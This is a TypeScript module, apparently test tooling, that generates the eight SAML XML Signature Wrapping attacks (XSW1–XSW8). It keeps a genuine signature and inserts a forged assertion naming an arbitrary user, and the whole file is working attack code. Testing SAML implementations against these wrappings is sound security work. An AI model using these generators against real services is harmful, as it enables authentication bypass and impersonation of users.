import { assertionXml, responseXml, type SamlResponseOptions, signXml } from './saml-response.ts'

/**
 * The eight ways of moving a signed part aside and putting a forged one where the application reads.
 * @see Somorovsky et al., "On Breaking SAML: Be Whoever You Want to Be" (2012); numbered as SAML Raider numbers them.
 */
export const wrappings = {
  /** The forged response holds the signature, and inside it the signed response. */
  XSW1: ({ forgedResponse, signedResponse: { content, signature } }) =>
    afterIssuer(forgedResponse, inSignature(signature, content)),
  /** The forged response holds the signed response, and the signature beside it. */
  XSW2: ({ forgedResponse, signedResponse: { content, signature } }) =>
    afterIssuer(forgedResponse, `${content}${signature}`),
  /** The forged assertion stands before the signed one. */
  XSW3: ({ around, forgedAssertion, signedAssertion: { whole } }) => around(forgedAssertion, whole),
  /** The forged assertion holds the signed one. */
  XSW4: ({ around, forgedAssertion, signedAssertion: { whole } }) =>
    around(forgedAssertion.replace('</saml:Assertion>', `${whole}</saml:Assertion>`)),
  /** The forged assertion holds the signature; the signed assertion follows, without it. */
  XSW5: ({ around, forgedAssertion, signedAssertion: { content, signature } }) =>
    around(afterIssuer(forgedAssertion, signature), content),
  /** The forged assertion holds the signature, and inside it the signed assertion. */
  XSW6: ({ around, forgedAssertion, signedAssertion: { content, signature } }) =>
    around(afterIssuer(forgedAssertion, inSignature(signature, content))),
  /** The forged assertion, under the same id, stands in an Extensions element, where schemas are lax. */
  XSW7: ({ around, forgedTwin, signedAssertion: { whole } }) =>
    around(`<samlp:Extensions>${forgedTwin}</samlp:Extensions>`, whole),
  /** The forged assertion, under the same id, holds the signature, and in an Object of it the signed assertion. */
  XSW8: ({ around, forgedTwin, signedAssertion: { content, signature } }) =>
    around(afterIssuer(forgedTwin, inSignature(signature, `<ds:Object>${content}</ds:Object>`))),
} satisfies Record<string, (parts: WrappingParts) => string>

export type Wrapping = keyof typeof wrappings

export interface ForgedPerson {
  nameId: string
  attributes?: Record<string, string | string[]>
}

/** A response whose signature is genuine, and which speaks of `forged` to whom reads it carelessly. */
export function wrappedResponse(
  wrapping: Wrapping,
  honest: SamlResponseOptions,
  forged: ForgedPerson,
): string {
  return wrappings[wrapping](partsOf(honest, forged))
}

export interface SignedPart {
  whole: string
  content: string
  signature: string
}

interface WrappingParts {
  signedResponse: SignedPart
  signedAssertion: SignedPart
  forgedResponse: string
  forgedAssertion: string
  /** With the id of the signed assertion. */
  forgedTwin: string
  /** An unsigned response around these. */
  around: (...contents: string[]) => string
}

function partsOf(honest: SamlResponseOptions, forged: ForgedPerson): WrappingParts {
  const options = { ...honest, assertionId: honest.assertionId ?? '_signed-assertion' }
  const forgedAs = (assertionId: string) => assertionXml({ ...options, ...forged, assertionId })
  const forgedAssertion = forgedAs('_forged-assertion')
  return {
    signedResponse: signedPart(signXml(responseXml(options, assertionXml(options)), options)),
    signedAssertion: signedPart(signXml(assertionXml(options), options)),
    forgedResponse: responseXml({ ...options, responseId: '_forged-response' }, forgedAssertion),
    forgedAssertion,
    forgedTwin: forgedAs(options.assertionId),
    around: (...contents) => responseXml(options, ...contents),
  }
}

/** Takes the signature out of a signed element. */
export function signedPart(whole: string): SignedPart {
  const signature = /<ds:Signature .*?<\/ds:Signature>/s.exec(whole)?.[0]
  if (!signature) throw new Error('There is no signature')
  return { whole, signature, content: whole.replace(signature, '') }
}

export function afterIssuer(xml: string, addition: string): string {
  return xml.replace('</saml:Issuer>', () => `</saml:Issuer>${addition}`)
}

function inSignature(signature: string, addition: string): string {
  return signature.replace('</ds:Signature>', () => `${addition}</ds:Signature>`)
}
